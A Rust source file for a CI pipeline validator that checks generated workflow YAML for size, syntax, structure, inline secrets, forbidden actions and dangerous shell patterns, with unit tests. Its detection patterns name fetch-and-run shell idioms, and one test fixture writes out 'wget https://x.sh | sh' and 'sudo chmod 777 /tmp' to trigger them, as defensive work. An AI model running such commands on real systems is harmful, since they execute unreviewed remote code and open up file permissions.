//! Size, syntax, structure and security checks on a produced pipeline.

use crate::config::{PipelinesConfig, SafetyConfig};
use crate::error::Result;
use crate::pipeline::structural_errors;
use crate::state::ValidationOutcome;
use regex::Regex;
use serde_yaml::Value;

pub trait PipelineValidator: Send + Sync {
    fn validate(&self, content: &str) -> ValidationOutcome;
}

const SECRET_PATTERNS: &[&str] = &[
    r#"(?i)(password|token|key|secret)\s*[:=]\s*["']?[\w\-/+]{20,}["']?"#,
    r"(?i)ghp_[a-zA-Z0-9]{36}",
    r"(?i)github_pat_[a-zA-Z0-9]{22}_[a-zA-Z0-9]{59}",
];

const DANGEROUS_PATTERNS: &[&str] = &[r"eval\s+\$", r"\$\([^)]*curl[^)]*\)", r"wget.*\|.*sh"];

/// Permission scopes that may not be granted `write`.
const GUARDED_SCOPES: &[&str] = &["contents", "packages"];

/// Validator driven by the `safety` and `pipelines` config sections.
pub struct RuleValidator {
    max_file_size: usize,
    max_matrix_combinations: usize,
    secrets: Vec<Regex>,
    dangerous: Vec<(Regex, &'static str)>,
    forbidden_actions: Vec<(Regex, String)>,
    forbidden_commands: Vec<String>,
}

impl RuleValidator {
    pub fn new(safety: &SafetyConfig, pipelines: &PipelinesConfig) -> Result<Self> {
        let secrets = SECRET_PATTERNS
            .iter()
            .map(|p| Regex::new(p))
            .collect::<std::result::Result<_, _>>()?;
        let dangerous = DANGEROUS_PATTERNS
            .iter()
            .map(|p| Regex::new(p).map(|re| (re, *p)))
            .collect::<std::result::Result<_, _>>()?;
        let forbidden_actions = safety
            .forbidden_actions
            .iter()
            .map(|a| Regex::new(&action_pattern(a)).map(|re| (re, a.clone())))
            .collect::<std::result::Result<_, _>>()?;

        Ok(Self {
            max_file_size: pipelines.max_file_size,
            max_matrix_combinations: pipelines.max_matrix_combinations,
            secrets,
            dangerous,
            forbidden_actions,
            forbidden_commands: safety.forbidden_commands.clone(),
        })
    }

    fn security_findings(&self, content: &str, doc: &Value) -> Vec<String> {
        let mut findings = Vec::new();

        for re in &self.secrets {
            if re.is_match(content) {
                let pattern: String = re.as_str().chars().take(50).collect();
                findings.push(format!("Potential inline secret detected (pattern: {pattern}...)"));
            }
        }
        for (re, action) in &self.forbidden_actions {
            if re.is_match(content) {
                findings.push(format!("Forbidden action detected: {action}"));
            }
        }
        for command in &self.forbidden_commands {
            if content.contains(command.as_str()) {
                findings.push(format!("Forbidden command detected: {command}"));
            }
        }
        for (re, pattern) in &self.dangerous {
            if re.is_match(content) {
                findings.push(format!("Dangerous shell pattern detected: {pattern}"));
            }
        }

        for (name, job) in jobs(doc) {
            let Some(perms) = job.get("permissions").and_then(Value::as_mapping) else {
                continue;
            };
            for scope in GUARDED_SCOPES {
                if perms.get(*scope).and_then(Value::as_str) == Some("write") {
                    findings.push(format!(
                        "Job '{name}' has write access to {scope} (use with caution)"
                    ));
                }
            }
        }
        findings
    }

    fn warnings(&self, doc: &Value) -> Vec<String> {
        let mut warnings = Vec::new();
        for (name, job) in jobs(doc) {
            let has_cache = job
                .get("steps")
                .and_then(Value::as_sequence)
                .is_some_and(|steps| {
                    steps.iter().any(|s| {
                        s.get("uses")
                            .and_then(Value::as_str)
                            .is_some_and(|u| u.starts_with("actions/cache"))
                    })
                });
            if !has_cache {
                warnings.push(format!(
                    "Job '{name}' has no caching configured (may be slower)"
                ));
            }
            if job.get("timeout-minutes").is_none() {
                warnings.push(format!("Job '{name}' has no timeout configured"));
            }
            if let Some(matrix) = job
                .get("strategy")
                .and_then(|s| s.get("matrix"))
                .and_then(Value::as_mapping)
            {
                let combinations: usize = matrix
                    .values()
                    .filter_map(Value::as_sequence)
                    .map(Vec::len)
                    .product();
                if combinations > self.max_matrix_combinations {
                    warnings.push(format!(
                        "Job '{name}' matrix has {combinations} combinations (max recommended: {})",
                        self.max_matrix_combinations
                    ));
                }
            }
        }
        warnings
    }
}

impl PipelineValidator for RuleValidator {
    fn validate(&self, content: &str) -> ValidationOutcome {
        let mut outcome = ValidationOutcome::default();

        if content.len() > self.max_file_size {
            outcome.errors.push(format!(
                "Workflow file too large: {} bytes (max: {})",
                content.len(),
                self.max_file_size
            ));
        }

        let doc: Value = match serde_yaml::from_str(content) {
            Ok(doc) => doc,
            Err(e) => {
                outcome.errors.push(format!("Invalid YAML syntax: {e}"));
                return outcome;
            }
        };

        outcome.errors.extend(structural_errors(&doc));
        outcome.security_findings = self.security_findings(content, &doc);
        outcome.warnings = self.warnings(&doc);
        outcome.is_valid = outcome.errors.is_empty() && outcome.security_findings.is_empty();

        tracing::debug!(
            errors = outcome.errors.len(),
            security_findings = outcome.security_findings.len(),
            warnings = outcome.warnings.len(),
            "pipeline validated"
        );
        outcome
    }
}

/// `*` matches anything; everything else is literal.
fn action_pattern(action: &str) -> String {
    let body = action
        .split('*')
        .map(regex::escape)
        .collect::<Vec<_>>()
        .join(".*");
    format!("uses:.*{body}")
}

fn jobs(doc: &Value) -> impl Iterator<Item = (&str, &Value)> {
    doc.get("jobs")
        .and_then(Value::as_mapping)
        .into_iter()
        .flat_map(|m| m.iter())
        .filter(|(_, job)| job.is_mapping())
        .map(|(k, job)| (k.as_str().unwrap_or("?"), job))
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use crate::renderer::{build_definition, JOB_NAME};
    use crate::state::RepositoryMetadata;
    use crate::types::Language;

    fn validator() -> RuleValidator {
        RuleValidator::new(&SafetyConfig::default(), &PipelinesConfig::default()).unwrap()
    }

    fn workflow(steps: &str) -> String {
        format!(
            "on: push\njobs:\n  {JOB_NAME}:\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n{steps}"
        )
    }

    #[test]
    fn rendered_template_is_clean() {
        let meta = RepositoryMetadata {
            language: Language::Python,
            has_tests: true,
            has_linter: true,
            ..RepositoryMetadata::generic("octo/demo")
        };
        let text = build_definition(&meta, "main").to_yaml().unwrap();
        let outcome = validator().validate(&text);
        assert!(outcome.is_valid, "{outcome:?}");
        assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    }

    #[test]
    fn syntax_error_stops_early() {
        let outcome = validator().validate("jobs: [unclosed");
        assert!(!outcome.is_valid);
        assert_eq!(outcome.errors.len(), 1);
        assert!(outcome.errors[0].starts_with("Invalid YAML syntax"));
    }

    #[test]
    fn oversized_file_is_an_error() {
        let v = RuleValidator::new(
            &SafetyConfig::default(),
            &PipelinesConfig {
                max_file_size: 16,
                ..PipelinesConfig::default()
            },
        )
        .unwrap();
        let outcome = v.validate(&workflow("      - run: echo hi\n"));
        assert!(outcome.errors.iter().any(|e| e.contains("too large")));
    }

    #[test]
    fn structural_errors_are_reported() {
        let outcome = validator().validate("name: x\njobs:\n  build:\n    steps: []\n");
        assert!(outcome.has_structural_errors());
        assert!(outcome.errors.iter().any(|e| e.contains("missing 'on'")));
        assert!(outcome.errors.iter().any(|e| e.contains("missing 'runs-on'")));
    }

    #[test]
    fn inline_token_is_a_security_finding() {
        let token = format!("ghp_{}", "a".repeat(36));
        let outcome = validator().validate(&workflow(&format!(
            "      - run: echo {token}\n"
        )));
        assert!(!outcome.has_structural_errors());
        assert!(outcome.has_security_findings());
        assert!(!outcome.is_valid);
    }

    #[test]
    fn forbidden_actions_commands_and_shell_patterns() {
        let outcome = validator().validate(&workflow(
            "      - uses: acme/self-hosted-runner-setup@v1\n      - run: sudo chmod 777 /tmp\n      - run: wget https://x.sh | sh\n",
        ));
        let f = &outcome.security_findings;
        assert!(f.iter().any(|s| s.contains("Forbidden action")), "{f:?}");
        assert!(f.iter().any(|s| s.contains("chmod 777")), "{f:?}");
        assert!(f.iter().any(|s| s.contains("Dangerous shell pattern")), "{f:?}");
    }

    #[test]
    fn write_permissions_are_flagged() {
        let text = "on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - run: make\n";
        let outcome = validator().validate(text);
        assert!(outcome
            .security_findings
            .iter()
            .any(|s| s.contains("'release' has write access to contents")));
    }

    #[test]
    fn warnings_for_cache_timeout_and_matrix() {
        let text = "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        os: [a, b, c]\n        v: [1, 2, 3, 4]\n    steps:\n      - run: make\n";
        let outcome = validator().validate(text);
        assert!(outcome.is_valid);
        assert_eq!(outcome.warnings.len(), 3, "{:?}", outcome.warnings);
        assert!(outcome.warnings[2].contains("12 combinations"));
    }
}
